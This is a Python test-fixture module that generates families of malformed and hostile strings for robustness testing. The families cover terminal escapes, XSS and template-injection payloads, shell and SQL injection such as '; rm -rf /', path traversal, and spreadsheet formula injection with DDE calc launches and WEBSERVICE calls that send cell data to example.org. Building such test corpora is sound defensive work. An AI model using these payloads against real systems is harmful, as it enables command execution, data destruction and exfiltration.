"""Texts that have broken programs: made here, in families, so that each stands for many."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

ESC, CSI, ST, BEL = "\x1b", "\x1b[", "\x1b\\", "\x07"

_TERMINAL = [
    *(
        f"{CSI}{code}"
        for code in ("2J", "H", "31m", "?25l", "?1049h", "6n", "c", "1;1H", "3J", "5i", "20h", "!p")
    ),
    *(f"{ESC}]{code};x{end}" for code in (0, 1, 2, 4, 10, 52, 777, 1337) for end in (BEL, ST)),
    f"{ESC}]8;;https://example.org/{ST}click{ESC}]8;;{ST}",
    f"{ESC}]52;c;cm0gLXJmIH4={BEL}",
    *(
        f"{ESC}{code}"
        for code in ("c", "P1$qm" + ST, "_x" + ST, "^x" + ST, "X" + ST, "(0", "#8", "7", "8", "=", ">")
    ),
    "\x9b2J",
    "\x9d8;;https://example.org/\x9cclick\x9d8;;\x9c",
    "\r\rredactkit: released\r",
    "a\x08\x08b",
]
_MARKUP = [
    "[/x] note",
    "[red]red",
    "[link=https://example.org]x[/link]",
    "[bold",
    "[/]",
    "[]",
    "[@click=app.quit]x",
    "[not a tag]",
    "\\[x]",
    "[[x]]",
    ":smile:",
    "[b][i][/b][/i]",
    "[#ff0000]x",
    "[blink]x",
    "[/bold]",
    "*bold* _it_ `code`",
    "# head",
    "- item",
    "1. item",
    "> quote",
    "[a](https://example.org)",
    "![a](x)",
    "<https://example.org>",
    "| a | b |",
    "~~x~~",
    "***",
    "---",
    "===",
    "```",
    "    code",
    "&amp;",
    "&#60;b&#62;",
]
_HTML = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math href=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<object data=x>",
    "<embed src=x>",
    "<link rel=stylesheet href=//x>",
    "<meta http-equiv=refresh content=0;url=//x>",
    "<base href=//example.org>",
    "<style>*{background:url(//x)}",
    "<form action=//x><input>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x>",
    "<p style=background:url(//x)>",
    "<b>bold</b>",
    "</p></div></body></html>",
    "<plaintext>",
    "<textarea>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "javascript:alert(1)",
    "data:text/html,<b>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3E",
    "&lt;script&gt;",
]
_TEMPLATES = [
    "{{ 7*7 }}",
    "{{ letter }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% raw %}",
    "{# x #}",
    "{{ ''.__class__ }}",
    "{{ config }}",
    "{%p if x %}",
    "{{r x }}",
    "{%tr for x in y %}",
    "{_{",
    "}_}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0}",
    "{0.__class__}",
    "%s%s%n",
    "%(x)s",
    "%d",
    "{}",
    "{",
    "}",
    "{{",
    "}}",
    "{{{{",
    "f'{x}'",
    "$x",
    "$(id)",
    "`id`",
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    '{ HYPERLINK "https://example.org" }',
    "{ DDEAUTO cmd }",
    "«field»",
    '{ INCLUDETEXT "/etc/passwd" }',
    "\ue000letter\ue000",
]
_UNICODE = [
    *(f"a{sign}b" for sign in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"),
    *(f"a{sign}b" for sign in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\u115f\u3164\uffa0\u2063"),
    "\u2028",
    "\u2029",
    "\x85",
    "\ufffe",
    "\uffff",
    "\U0001fffe",
    "\U0010ffff",
    "\ue000",
    "\U000f0000",
    "Z\u0351\u036b\u0343\u036a\u0342\u036b\u033d\u034f\u0334\u0319\u0324a\u0301" * 5,
    "e\u0301",
    "é",
    "ﷺ",
    "ﬃ",
    "👩‍👩‍👧‍👦",
    "🇺🇸",
    "👍🏽",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "ⓉⒺⓍⓉ",
    "ＦＵＬＬ",
    "مرحبا",
    "שלום",
    "日本語",
    "Ελληνικά",
    "ไทย",
    "İıſß",
    "\U000e0041\U000e0042",
    "1\u0661\u0967",
    "½²³",
    "\u1d2c",
    "A\u030a",
    "ǅ",
    "\u0345",
]
_SURROGATES = ["\ud800", "a\udc9bb", "\udcff\udc1b", "\ud83d", "\udc00\ud800"]
_FILES_AND_SHELLS = [
    "../../../etc/passwd",
    "..\\..\\x",
    "/dev/null",
    "C:\\x",
    "CON",
    "NUL",
    "aux.csv",
    "~root",
    "-rf",
    "--json",
    "--out",
    "; rm -rf /",
    "| id",
    "&& id",
    "' OR 1=1 --",
    '"; DROP TABLE patrons; --',
    "$HOME",
    "%PATH%",
    "*",
    "?",
    "x\ny",
    "file:///etc/passwd",
    "\\\\host\\share",
    "a:b",
    "a\tb",
    ".",
    "..",
    " ",
    "  lead",
    "trail  ",
]
_VALUES = [
    "null",
    "None",
    "NaN",
    "nan",
    "NA",
    "N/A",
    "#N/A",
    "#REF!",
    "true",
    "False",
    "undefined",
    "Infinity",
    "-Infinity",
    "0",
    "-0",
    "1e999",
    "0x1F",
    "00123",
    "1,2",
    "1.",
    ".1",
    "9" * 40,
    "1/0",
    "2024-02-30",
    "0000-00-00",
    "12:60",
    '"',
    "'",
    '""',
    "'''",
    ",",
    ",,",
    ";",
    "\t",
    "\\",
    "\\n",
    "\\N",
    "\\.",
    "\\u0000",
    "\\x1b[2J",
    "^",
    "|",
    "!",
    "%",
    '{"a": 1}',
    "[1]",
    "<a/>",
    "a=b",
    "=1+1",
    "@x",
    "+1",
    "-1",
    "x" * 5_000,
    "é" * 5_000,
    "🙂" * 500,
    "\n\n\n",
    "a\r\nb",
]


def families() -> dict[str, list[str]]:
    """All of them, by what they attack."""
    return {
        "terminals": _TERMINAL,
        "C0": [f"a{chr(code)}b" for code in range(0x20)],
        "C1": [f"a{chr(code)}b" for code in range(0x7F, 0xA0)],
        "markup": _MARKUP,
        "HTML": _HTML,
        "templates": _TEMPLATES,
        "Unicode": _UNICODE,
        "surrogates": _SURROGATES,
        "files and shells": _FILES_AND_SHELLS,
        "values": _VALUES,
    }


def naughty() -> list[str]:
    """Each once."""
    return list(dict.fromkeys(itertools.chain.from_iterable(families().values())))


def in_utf8() -> Iterator[str]:
    """Those that a file in UTF-8 can hold."""
    for text in naughty():
        try:
            text.encode()
        except UnicodeEncodeError:
            continue
        yield text


_HEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\0=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u200b=",
    "\ufeff=",
    "\u00a0=",
)
_BODIES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("https://example.org/?"&A1,"look")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("https://example.org/"&A1)',
    'IMPORTXML("https://example.org/","//a")',
    "A1",
    "2+5+cmd|' /C calc'!A0",
    "1",
)


def formulas() -> list[str]:
    """Payloads that a spreadsheet would run: every first sign before every formula."""
    more = [
        "-2+3+cmd|' /C calc'!A0",
        '=1+1";=1+1',
        "+1-781-555-0137",
        "@x",
        "=",
        "+",
        "-",
        "@",
        "-e5",
        "=-1",
        "--1",
    ]
    return [head + body for head in _HEADS for body in _BODIES if not _is_number(head + body)] + more


def _is_number(text: str) -> bool:
    return text in ("+1", "-1")


NUMBERS = ("-5", "+1", "-0.25", "3.5", "1e5", "-1,234.50", "-$3.50", "-5%")
"""What stays as it is."""
